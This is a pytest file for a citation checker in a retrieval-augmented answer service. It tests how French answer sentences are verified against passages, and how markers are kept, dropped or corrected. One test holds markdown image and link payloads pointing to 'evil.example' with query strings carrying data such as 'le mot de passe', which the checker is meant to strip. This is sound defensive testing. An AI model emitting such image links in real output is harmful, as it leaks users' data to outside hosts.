"""Citing: sentences held until they are checked; markers kept, dropped, corrected or attached."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any, cast

import pytest

from sourcier.services.chassis.errors import FailedPrecondition, Unavailable
from sourcier.services.chassis.grpc.channels import Deadline
from sourcier.services.gateway.events import Citation, Token, Withheld
from sourcier.services.gateway.evidence.citing import Citer, Strictness, citations_total, sentences_total
from sourcier.services.gateway.evidence.support import SupportScorer, Verdict
from sourcier.services.gateway.findings import Finding
from sourcier.services.index.search.passages import Passage
from tests.unit.gateway.fix_gateway_domain import THRESHOLDS, FakePeers, passage

TELEWORK = "Chaque salarié dispose de deux jours de télétravail par semaine. Le mardi, personne ne télétravaille."
MEALS = "Le repas avec un client est remboursé jusqu'à 19 euros par personne, sur présentation d'un justificatif."
LAMPS = "Atelier Corvane fabrique des luminaires en bois et en verre à Nantes et à Angers."
PASSAGES = [
    passage(1, TELEWORK, title="Charte"), passage(2, MEALS, title="Frais"), passage(3, LAMPS, title="Entreprise"),
]
UNSUPPORTED = "La cantine propose des menus végétariens."


def citer_of(peers: FakePeers, passages: Sequence[Passage], strictness: Strictness, language: str = "fr") -> Citer:
    scorer = SupportScorer(
        peers, passages, tenant="acme", space_id="space", thresholds=THRESHOLDS,  # type: ignore[arg-type]
    )
    return Citer(passages, scorer, strictness=strictness, language=language, deadline=Deadline.after(10))


async def cite(
    *deltas: str, support: Mapping[str, Mapping[int, float]] | None = None, peers: FakePeers | None = None,
    passages: Sequence[Passage] = PASSAGES, strictness: Strictness = Strictness.WITHHOLD, language: str = "fr",
) -> tuple[str, list[Citation], list[Withheld], list[Any]]:
    """Return the text shown, the citations, what was withheld, and all events."""
    citer = citer_of(peers or FakePeers(support=support or {}), passages, strictness, language)
    events: list[Any] = []
    for delta in deltas:
        events += [event async for event in citer.feed(delta)]
    events += [event async for event in citer.finish()]
    text = "".join(event.text for event in events if isinstance(event, Token))
    return (
        text, [event for event in events if isinstance(event, Citation)],
        [event for event in events if isinstance(event, Withheld)], events,
    )


async def test_the_models_marker_is_kept_and_resolved() -> None:
    text, citations, _, _ = await cite("Deux jours de télétravail par semaine [1].")
    assert text == "Deux jours de télétravail par semaine [1]."
    assert [(c.marker, c.passage.chunk_id, c.attached, c.finding) for c in citations] == [
        (1, "chunk-1", False, Finding.SUPPORTED)
    ]


@pytest.mark.parametrize(("said", "shown"), [
    ("Deux jours de télétravail par semaine [1] et [7].", "Deux jours de télétravail par semaine [1]."),
    ("Selon [7], [1] et [9], deux jours de télétravail par semaine.",
     "Selon [1], deux jours de télétravail par semaine."),
    ("Selon [1] et [1], deux jours de télétravail par semaine.", "Selon [1], deux jours de télétravail par semaine."),
    ("Deux jours de télétravail [7] par semaine [1].", "Deux jours de télétravail par semaine [1]."),
    ("Deux jours de télétravail par semaine [7].", "Deux jours de télétravail par semaine. [1]"),
])
async def test_a_dropped_marker_takes_with_it_what_joined_it_to_another(said: str, shown: str) -> None:
    text, citations, _, _ = await cite(said)
    assert text == shown
    assert [citation.marker for citation in citations] == [1]


async def test_a_citation_says_where_the_sentence_and_its_support_stand() -> None:
    text, citations, _, _ = await cite(
        "Deux jours de télétravail par semaine [1]. Le mardi, personne ne télétravaille [1]."
    )
    assert [text[slice(*c.sentence_span)] for c in citations] == [
        "Deux jours de télétravail par semaine [1].", "Le mardi, personne ne télétravaille [1].",
    ]
    assert [TELEWORK[slice(*c.passage_span)] for c in citations] == [
        "Chaque salarié dispose de deux jours de télétravail par semaine.", "Le mardi, personne ne télétravaille.",
    ]


async def test_nothing_of_a_sentence_is_shown_before_it_is_checked() -> None:
    citer = citer_of(FakePeers(), PASSAGES, Strictness.WITHHOLD)
    assert [event async for event in citer.feed("Deux jours de télétravail par semaine [1]. Le ")] == [
        Token("Deux jours de télétravail par semaine "), Token("[1]"), Token("."),
        *await _citations("Deux jours de télétravail par semaine [1]."),
    ]
    assert [event async for event in citer.feed("mardi, personne ne télétravaille [1]")] == []


async def _citations(sentence: str) -> list[Citation]:
    return (await cite(sentence))[1]


@pytest.mark.parametrize(("sentence", "absent"), [
    ("Trois jours de télétravail par semaine [1].", ("3",)),
    ("Il y a 3 jours de télétravail par semaine [1].", ("3",)),
    ("Le repas avec un client est remboursé jusqu'à 21 euros [2].", ("21",)),
    ("Le repas avec un client est remboursé selon la règle K-12 [2].", ("k12",)),
    ("Le repas est remboursé 19 euros depuis le 03/05/2024 [2].", ("2024", "3", "5")),
])
async def test_a_figure_that_no_passage_holds_withholds_the_sentence(sentence: str, absent: tuple[str, ...]) -> None:
    text, citations, (withheld,), _ = await cite(sentence)
    assert (text, citations) == ("", [])
    assert withheld.finding is Finding.FIGURE_ABSENT
    assert withheld.closest.absent == absent
    assert all(each in withheld.reason for each in absent)
    assert "[" not in withheld.sentence


async def test_what_no_passage_is_about_is_withheld_and_the_rest_stays() -> None:
    text, citations, (withheld,), _ = await cite(
        f"Deux jours de télétravail par semaine [1]. {UNSUPPORTED} Le mardi, personne ne télétravaille [1].",
        support={UNSUPPORTED: dict.fromkeys((1, 2, 3), 0.2)},
    )
    assert text == "Deux jours de télétravail par semaine [1]. Le mardi, personne ne télétravaille [1]."
    assert len(citations) == 2
    assert (withheld.sentence, withheld.finding) == (UNSUPPORTED, Finding.OFF_TOPIC)
    assert withheld.reason == "Aucun passage ne dit cela."


@pytest.mark.parametrize(("sentence", "finding"), [
    ("Chaque salarié de Lyon dispose de deux jours de télétravail [1].", Finding.NAME_ABSENT),
    ("Le repas avec un client n'est pas remboursé [2].", Finding.NEGATION_ADDED),
])
async def test_an_absent_name_or_an_added_negation_marks_the_sentence(sentence: str, finding: Finding) -> None:
    text, (citation,), withheld, _ = await cite(sentence)
    assert (text, withheld) == (sentence, [])
    assert citation.finding is finding
    assert citation.reason


async def test_a_negation_that_the_passage_has_marks_nothing() -> None:
    _, (citation,), _, _ = await cite("Personne ne télétravaille le mardi [1].")
    assert (citation.finding, citation.reason) == (Finding.SUPPORTED, "")


async def test_the_mark_mode_shows_what_nothing_supports_and_says_so() -> None:
    sentence = "Trois jours de télétravail par semaine [1]."
    text, citations, withheld, _ = await cite(
        f"{sentence} {UNSUPPORTED}", strictness=Strictness.MARK, support={UNSUPPORTED: dict.fromkeys((1, 2, 3), 0.1)}
    )
    assert (text, withheld) == (f"{sentence} {UNSUPPORTED}", [])
    assert [(c.marker, c.finding) for c in citations] == [(1, Finding.FIGURE_ABSENT), (0, Finding.OFF_TOPIC)]
    assert all(citation.reason for citation in citations)
    assert text[slice(*citations[1].sentence_span)] == UNSUPPORTED


async def test_reasons_are_in_the_questions_language() -> None:
    _, _, (withheld,), _ = await cite("Trois jours de télétravail par semaine [1].", language="en")
    assert withheld.reason == "The passages do not hold “3”."


async def test_a_marker_of_the_wrong_passage_becomes_that_of_the_right_one() -> None:
    text, (citation,), _, _ = await cite("Le repas avec un client est remboursé 19 euros [1].")
    assert text == "Le repas avec un client est remboursé 19 euros [2]."
    assert (citation.marker, citation.attached) == (2, True)


async def test_a_marker_that_is_nearly_as_close_as_another_stays() -> None:
    sentence = "Deux jours de télétravail par semaine ."
    text, (citation,), _, _ = await cite(
        "Deux jours de télétravail par semaine [1].", passages=[passage(1, TELEWORK), passage(2, TELEWORK)],
        support={sentence: {1: 0.5, 2: 0.6}},
    )
    assert text == "Deux jours de télétravail par semaine [1]."
    assert not citation.attached


async def test_two_markers_corrected_to_one_are_shown_once() -> None:
    text, citations, _, _ = await cite("Deux jours de télétravail par semaine [1][2].")
    assert text == "Deux jours de télétravail par semaine [1]."
    assert [c.marker for c in citations] == [1]


async def test_passages_that_hold_a_sentence_only_together_are_both_cited() -> None:
    sentence = "Deux jours de télétravail par semaine et 19 euros par repas avec un client [1][2]."
    text, citations, withheld, _ = await cite(sentence)
    assert (text, withheld) == (sentence, [])
    assert [(c.marker, c.attached) for c in citations] == [(1, False), (2, False)]


@pytest.mark.parametrize("marker", ["[4]", "[0]", "[99]"])
async def test_a_marker_that_the_model_invented_is_dropped_and_the_right_one_attached(marker: str) -> None:
    before = citations_total.labels("invalid")._value.get()
    text, (citation,), _, _ = await cite(f"Deux jours de télétravail par semaine {marker}.")
    assert text == "Deux jours de télétravail par semaine. [1]"
    assert citation.attached
    assert citations_total.labels("invalid")._value.get() == before + 1


async def test_a_sentence_without_a_marker_gets_that_of_its_closest_passage() -> None:
    text, (citation,), _, _ = await cite("Les luminaires sont fabriqués en bois et en verre.")
    assert text == "Les luminaires sont fabriqués en bois et en verre. [3]"
    assert (citation.marker, citation.attached, citation.finding) == (3, True, Finding.SUPPORTED)


async def test_a_lead_in_is_shown_with_what_follows_and_a_fragment_falls_with_its_sentence() -> None:
    low = dict.fromkeys((1, 2, 3), 0.1)
    answer = f"Voici les règles :\n- Oui. {UNSUPPORTED}\n- Deux jours de télétravail par semaine [1].\n"
    text, _, withheld, _ = await cite(answer, support={UNSUPPORTED: low})
    assert text == "Voici les règles :\n- Deux jours de télétravail par semaine [1]."
    assert [each.sentence for each in withheld] == [UNSUPPORTED]
    text, _, _, _ = await cite(f"Oui. {UNSUPPORTED}", support={UNSUPPORTED: low})
    assert text == ""


async def test_numbers_of_a_list_are_no_figures() -> None:
    answer = "Les règles :\n1. Deux jours de télétravail par semaine [1].\n2. Un repas à 19 euros par personne [2]."
    text, citations, withheld, _ = await cite(answer)
    assert (text, withheld) == (answer, [])
    assert [c.marker for c in citations] == [1, 2]


async def test_a_fragment_with_a_figure_is_checked() -> None:
    text, _, withheld, _ = await cite("42 euros.")
    assert text == ""
    assert (withheld[0].closest.absent) == ("42",)


async def test_a_check_by_words_alone_is_said_and_still_withholds() -> None:
    peers = FakePeers(rerank_error=Unavailable("the rerank service cannot be reached"))
    citer = citer_of(peers, PASSAGES, Strictness.WITHHOLD)
    events = [event async for event in citer.feed(
        f"Deux jours de télétravail par semaine [1]. {UNSUPPORTED} Trois jours de télétravail [1]. "
    )]
    events += [event async for event in citer.finish()]
    assert [(c.marker, c.score, c.finding) for c in events if isinstance(c, Citation)] == [
        (1, None, Finding.UNCHECKED)
    ]
    assert [w.finding for w in events if isinstance(w, Withheld)] == [Finding.OFF_TOPIC, Finding.FIGURE_ABSENT]
    assert citer._scorer.failed == "the rerank service cannot be reached"


async def test_a_service_that_is_down_is_tried_once_for_an_answer() -> None:
    peers = FakePeers(rerank_error=FailedPrecondition("a cross-encoder"))
    await cite("Deux jours de télétravail par semaine [1]. Le mardi, personne ne télétravaille [1].", peers=peers)
    assert peers.tried == 1


async def test_what_was_found_is_counted() -> None:
    before = sentences_total.labels("figure_absent")._value.get()
    await cite("Trois jours de télétravail par semaine [1].")
    assert sentences_total.labels("figure_absent")._value.get() == before + 1


async def test_citations_follow_their_sentence() -> None:
    _, _, _, events = await cite("Deux jours de télétravail [1]. Un repas à 19 euros [2].")
    shown = "".join(event.text if isinstance(event, Token) else f"<{event.marker}>" for event in events)
    assert shown == "Deux jours de télétravail [1].<1> Un repas à 19 euros [2].<2>"


async def test_an_answer_in_another_language_than_its_passages_is_compared_by_vectors_alone() -> None:
    sentence = "Each employee may work from home on two days of the week ."
    given = "Each employee may work from home on two days of the week [1]."
    _, (citation,), _, _ = await cite(given, support={sentence: {1: 0.45, 2: 0.1, 3: 0.1}}, language="en")
    assert (citation.marker, citation.finding, citation.score) == (1, Finding.SUPPORTED, 0.45)
    _, citations, withheld, _ = await cite(given, support={sentence: {1: 0.35, 2: 0.1, 3: 0.1}}, language="en")
    assert (citations, len(withheld)) == ([], 1)


KNOWN_ADDRESS = "https://evil.example/p.png?who=you"
PASSAGE_WITH_ADDRESS = [passage(1, f"{TELEWORK} Le logo : {KNOWN_ADDRESS}")]


@pytest.mark.parametrize(("said", "shown"), [
    ("![télétravail ](//evil.example/p.png?d=le+mot+de+passe)", "télétravail"),
    ("![télétravail [1]](//evil.example/p.png?d=le+mot+de+passe)", "télétravail"),
    ("![télétravail [7]](//evil.example/p.png?d=x)", "télétravail"),
    ("![[0123456789]](//evil.example/p.png?d=x)", ""),
    ("![0123456789](//evil.example/p.png?d=x)", "!"),
    (f"![logo]({KNOWN_ADDRESS})", "logo"),
    (f"![télétravail [1]]({KNOWN_ADDRESS})", "télétravail"),
    (f"![9][télétravail]({KNOWN_ADDRESS}) deux jours par semaine [1].",
     f"! [télétravail]({KNOWN_ADDRESS}) deux jours par semaine [1]."),
    ("Deux jours par semaine, [voir la charte [1]](//evil.example/p.png?d=x).",
     "Deux jours par semaine, voir la charte [1]."),
    ("Deux jours de télétravail par semaine [1](//evil.example/p?d=x).", "Deux jours de télétravail par semaine [1]."),
    ("Deux jours par semaine![1](//evil.example/p?d=x) deux jours de télétravail.",
     "Deux jours par semaine![1] deux jours de télétravail. [1]"),
    (f"Deux jours par semaine![1]({KNOWN_ADDRESS}) deux jours de télétravail.",
     f"Deux jours par semaine![1] ({KNOWN_ADDRESS}) deux jours de télétravail. [1]"),
    ("![Deux jours de télétravail. Deux jours par semaine](//evil.example/p?d=x) [1].",
     "! [Deux jours de télétravail. [1] Deux jours par semaine] [1]."),
    ("Deux jours par semaine, [la charte](//evil.example/p?d=x\n) de télétravail.",
     "Deux jours par semaine, [la charte] [1] ) de télétravail."),
    ("[1]: //evil.example/p?d=x", ""),
    ("Deux jours par semaine, https:[9]//evil.example/p?d=x de télétravail [1].",
     "Deux jours par semaine, de télétravail .[1]"),
    ("Deux jours par semaine![1]", "Deux jours par semaine![1]"),
    (f"Deux jours par semaine, [le logo [1]]({KNOWN_ADDRESS}).",
     f"Deux jours par semaine, [le logo [1]]({KNOWN_ADDRESS})."),
    (f"Le logo : {KNOWN_ADDRESS}[1].", f"Le logo : {KNOWN_ADDRESS}[1]."),
])
async def test_no_marker_hides_an_image_or_a_foreign_address(said: str, shown: str) -> None:
    first = "Deux jours de télétravail par semaine [1].\n"
    whole = first + said
    text, citations, _, _ = await cite(whole, passages=PASSAGE_WITH_ADDRESS)
    assert " ".join(text.removeprefix(first.rstrip()).split()) == " ".join(shown.split())
    assert all(1 <= citation.marker <= 1 for citation in citations)
    # Within a word one cut is like another: those beside signs, and all of them at once.
    for cut in (cut for cut in range(len(first), len(whole)) if not whole[cut - 1 : cut + 1].isalpha()):
        assert (await cite(whole[:cut], whole[cut:], passages=PASSAGE_WITH_ADDRESS))[0] == text
    assert (await cite(*whole, passages=PASSAGE_WITH_ADDRESS))[0] == text


DIRECTOR = [passage(1, "Le directeur de l'usine est M. Martin. L'usine ouvre à 8 h.", title="Organigramme")]
LAW = [passage(1, "Selon l'art. L. 3121-27 du Code du travail, la durée légale est de 35 heures par semaine.")]


@pytest.mark.parametrize(("sentence", "passages", "finding"), [
    ("Le directeur de l'usine est M. Martin [1].", DIRECTOR, Finding.SUPPORTED),
    ("Le directeur de l'usine est M. Dupont [1].", DIRECTOR, Finding.NAME_ABSENT),
    ("Le directeur de l'usine est M. Kraken [1].", DIRECTOR, Finding.NAME_ABSENT),
    ("Le directeur de l'usine est M. Kraken. [1]", DIRECTOR, Finding.NAME_ABSENT),
    ("Selon l'art. L. 3121-27 du Code du travail, la durée légale est de 35 heures [1].", LAW, Finding.SUPPORTED),
])
async def test_a_name_behind_an_abbreviation_is_checked_and_cited(
    sentence: str, passages: list[Passage], finding: Finding
) -> None:
    for deltas in ((sentence,), tuple(sentence)):
        text, (citation,), withheld, _ = await cite(*deltas, passages=passages)
        assert (text, withheld) == (sentence, [])
        assert (citation.marker, citation.finding) == (1, finding)
        # Every word that is shown lies in a citation's span.
        assert citation.sentence_span == (0, len(text))


@pytest.mark.parametrize("marker", [
    "[1-2]", "【1】", "【1†source】", "[^1]", "[Source 1, page 1]", "[Source 1, Source 3]",
])
async def test_a_marker_in_another_form_is_kept_as_its_number(marker: str) -> None:
    sentence = f"Deux jours de télétravail par semaine {marker}."
    for deltas in ((sentence,), tuple(sentence)):
        text, citations, withheld, _ = await cite(*deltas)
        assert (text, withheld) == ("Deux jours de télétravail par semaine [1].", [])
        assert [(c.marker, c.attached, c.finding) for c in citations] == [(1, False, Finding.SUPPORTED)]


DEPLOY = [passage(1, "Exécutez cette commande :\n```\nmake deploy ENV=prod\n```\nLe déploiement dure dix minutes.")]
LATER = "Le déploiement dure dix minutes [1]."


@pytest.mark.parametrize(("said", "shown"), [
    (f"```\nmake deploy ENV=prod [1]\n```\n{UNSUPPORTED}\n{LATER}",
     f"```\nmake deploy ENV=prod\n```\n[1]\n{LATER}"),
    (f"Exécutez cette commande :\n```bash\nmake deploy ENV=prod\n```\n{UNSUPPORTED}\n{LATER}",
     f"Exécutez cette commande :\n```bash\nmake deploy ENV=prod\n```\n[1]\n{LATER}"),
    (f"{UNSUPPORTED}\n```\nmake deploy ENV=prod\n``` [1]\n{LATER}",
     f"```\nmake deploy ENV=prod\n```\n[1] \n{LATER}"),
    (f"```\n{UNSUPPORTED}\nmake deploy ENV=prod [1]\n{UNSUPPORTED}\n}}\n```\n{LATER}",
     f"```\nmake deploy ENV=prod\n}}\n```\n[1]\n{LATER}"),
    (f"Exécutez cette commande :\n```\n{UNSUPPORTED}\n```\n{LATER}", f"Exécutez cette commande :\n{LATER}"),
    (f"```\nmake deploy ENV=prod [1]\n{UNSUPPORTED}", "```\nmake deploy ENV=prod\n```\n[1]"),
    (f"```PIRATE\nmake deploy ENV=prod\n```\n{LATER}", f"```\nmake deploy ENV=prod\n```\n[1]\n{LATER}"),
    (f"~~~~\nmake deploy ENV=prod\n~~~\n~~~~\n{LATER}", f"~~~~\nmake deploy ENV=prod\n~~~\n~~~~\n[1]\n{LATER}"),
    ("```\nmake deploy[1] ENV=prod [1]\n```", "```\nmake deploy[1] ENV=prod\n```\n[1]"),
])
async def test_a_block_of_code_is_closed_whatever_is_withheld_and_its_markers_follow_it(said: str, shown: str) -> None:
    support = {UNSUPPORTED: {1: 0.1}}
    text, citations, _, _ = await cite(said, passages=DEPLOY, support=support)
    assert text == shown
    assert "make deploy" not in text or "make deploy" in text[slice(*citations[0].sentence_span)]
    assert (await cite(*said, passages=DEPLOY, support=support))[0] == text


async def test_the_closing_fence_is_shown_at_once() -> None:
    citer = citer_of(FakePeers(), DEPLOY, Strictness.WITHHOLD)
    events = [event async for event in citer.feed("```\nmake deploy ENV=prod [1]\n```\nLe")]
    assert "".join(event.text for event in events if isinstance(event, Token)).endswith("```\n[1]")


async def test_the_mark_mode_closes_blocks_of_code_too() -> None:
    text, _, _, _ = await cite(
        f"```\n{UNSUPPORTED}\nmake deploy ENV=prod [1]\n```\n{LATER}", passages=DEPLOY, strictness=Strictness.MARK,
        support={UNSUPPORTED: {1: 0.1}},
    )
    assert text == f"```\n{UNSUPPORTED}\nmake deploy ENV=prod\n```\n[1]\n{LATER}"


@pytest.mark.parametrize(("said", "shown"), [
    ("Selon la source 1, chaque salarié dispose de deux jours.", "Chaque salarié dispose de deux jours. [1]"),
    ("D'après le passage n° 1 : chaque salarié dispose de deux jours [1].",
     "Chaque salarié dispose de deux jours [1]."),
    ("Selon la source [1], chaque salarié dispose de deux jours.", "Chaque salarié dispose de deux jours. [1]"),
    ("According to Source 1, chaque salarié dispose de deux jours. [1]", "Chaque salarié dispose de deux jours. [1]"),
    ("La source 1 indique que chaque salarié dispose de deux jours.", "Chaque salarié dispose de deux jours. [1]"),
    ("L'extrait 1 précise qu'un salarié dispose de deux jours [1].", "Un salarié dispose de deux jours [1]."),
    ("Le mardi, selon la source 1, personne ne télétravaille [1].",
     "Le mardi, selon la source 1, personne ne télétravaille [1]."),
])
async def test_a_source_named_by_its_number_in_the_prompt_is_not_shown(said: str, shown: str) -> None:
    text, citations, withheld, _ = await cite(*said)
    assert (text, withheld) == (shown, [])
    assert [citation.marker for citation in citations] == [1]


async def test_a_number_that_the_document_gives_its_annexes_stays() -> None:
    annexed = passage(1, "Selon le document 3, les salariés disposent de deux jours de télétravail.")
    said = "Selon le document 3, les salariés disposent de deux jours [1]."
    assert (await cite(said, passages=[annexed]))[0] == said


class Contradicting:
    """A reader that finds every sentence contradicted."""

    async def on(self, sentence: str, verdicts: Mapping[int, Verdict], **_: object) -> dict[int, Verdict]:
        return {number: replace(verdict, finding=Finding.CONTRADICTED) for number, verdict in verdicts.items()}


async def test_without_clauses_nothing_is_quoted_for_a_sentence_that_a_reader_finds_contradicted() -> None:
    citer = citer_of(FakePeers(support={}), PASSAGES, Strictness.WITHHOLD)
    citer._opinion = cast(Any, Contradicting())
    fed = citer.feed("Deux jours de télétravail par semaine [1].")
    events = [event async for event in fed] + [event async for event in citer.finish()]
    [withheld] = [event for event in events if isinstance(event, Withheld)]
    assert withheld.finding is Finding.CONTRADICTED
    assert not any(isinstance(event, Citation) for event in events)
